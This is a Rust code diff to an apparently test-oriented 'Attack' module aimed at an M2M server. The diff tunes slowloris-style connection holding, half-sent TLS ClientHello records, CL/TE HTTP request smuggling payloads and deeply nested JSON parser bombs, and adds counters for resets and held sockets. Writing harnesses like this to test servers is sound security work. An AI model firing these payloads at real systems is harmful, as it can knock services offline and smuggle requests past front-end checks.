@@ -68,7 +68,7 @@ impl Attack {
         let client =
             tls::client(Path::new(&factory.path("ca.pem")), Some(&files)).map_err(|e| e.to_string())?;
         let keys = PskConnector::new(&ConnectorConfig::default()).map_err(|e| e.to_string())?;
-        let heads = Kind::Slow { begin: b"GET /m2m HTTP/1.1\r\nHost: h\r\nX: ".to_vec(), trickle: true };
+        let heads = Kind::Slow { begin: b"GET /m2m HTTP/1.1\r\nHost: nscl\r\nX: ".to_vec(), trickle: true };
         // The first half of a record with a ClientHello.
         let hello = Kind::Slow { begin: vec![22, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3], trickle: false };
         let rows = [
@@ -95,8 +95,9 @@ impl Attack {
             // Not all at the same moment, and not one after the other.
             sleep(Duration::from_micros(300) * u32::try_from(number).unwrap_or(u32::MAX)).await;
             for turn in number.. {
-                let told = match self.once(turn).await {
+                let told = match self.once(turn, tally).await {
                     Ok(told) => told,
+                    Err(failure) if failure.kind() == io::ErrorKind::ConnectionReset => "reset".to_owned(),
                     Err(failure) => failure.to_string(),
                 };
                 *tally.lock().entry(told).or_default() += 1;
@@ -108,13 +109,13 @@ impl Attack {
         join_all((0..count).map(one)).await;
     }
 
-    async fn once(&self, turn: usize) -> io::Result<String> {
+    async fn once(&self, turn: usize, tally: &Tally) -> io::Result<String> {
         let socket = TcpSocket::new_v4()?;
         socket.set_reuseaddr(true)?;
         socket.bind(self.source)?;
         let stream = socket.connect(self.to).await?;
         match &self.kind {
-            Kind::Slow { begin, trickle } => slow(stream, begin, *trickle).await,
+            Kind::Slow { begin, trickle } => slow(stream, begin, *trickle, tally).await,
             Kind::Requests(all) => {
                 let (what, request) = &all[turn % all.len()];
                 Ok(format!("{what}: {}", asked(stream, request).await?))
@@ -136,16 +137,20 @@ impl Attack {
 }
 
 /// Holds a socket for as long as the other side lets it.
-async fn slow(mut stream: TcpStream, begin: &[u8], trickle: bool) -> io::Result<String> {
+async fn slow(mut stream: TcpStream, begin: &[u8], trickle: bool, tally: &Tally) -> io::Result<String> {
     stream.write_all(begin).await?;
     let mut answer = [0; 64];
-    loop {
+    for second in 0_u64.. {
+        if second == 1 {
+            *tally.lock().entry("held for a second or longer".to_owned()).or_default() += 1;
+        }
         match timeout(Duration::from_secs(1), stream.read(&mut answer)).await {
             Ok(read) => return Ok(told(&answer[..read?])),
             Err(_) if trickle => stream.write_all(b"x").await?,
             Err(_) => {}
         }
     }
+    Ok("held to the end".to_owned())
 }
 
 /// The answer to a request, to the end of the connection.
@@ -172,9 +177,8 @@ fn told(answer: &[u8]) -> String {
 
 /// Heads that two parsers read differently.
 fn two_readings() -> Vec<(&'static str, Vec<u8>)> {
-    let head =
-        "POST /m2m/applications HTTP/1.1\r\nHost: h\r\nFrom: /m2m\r\nContent-Type: application/xml\r\n";
-    let smuggled = "0\r\n\r\nGET /m2m HTTP/1.1\r\nHost: h\r\n\r\n";
+    let head = "POST /m2m/applications HTTP/1.1\r\nHost: nscl\r\nFrom: /m2m/applications/mallory\r\nContent-Type: application/xml\r\n";
+    let smuggled = "0\r\n\r\nGET /m2m HTTP/1.1\r\nHost: nscl\r\n\r\n";
     vec![
         (
             "CL and TE",
@@ -209,7 +213,7 @@ fn bombs() -> Vec<(&'static str, Vec<u8>)> {
         ("deep JSON", "json", arrays),
     ]
     .map(|(what, kind, text)| {
-        let head = "POST /m2m/applications HTTP/1.1\r\nHost: h\r\nFrom: /m2m\r\nConnection: close\r\n";
+        let head = "POST /m2m/applications HTTP/1.1\r\nHost: nscl\r\nFrom: /m2m/applications/mallory\r\nConnection: close\r\n";
         let length = text.len();
         (
             what,
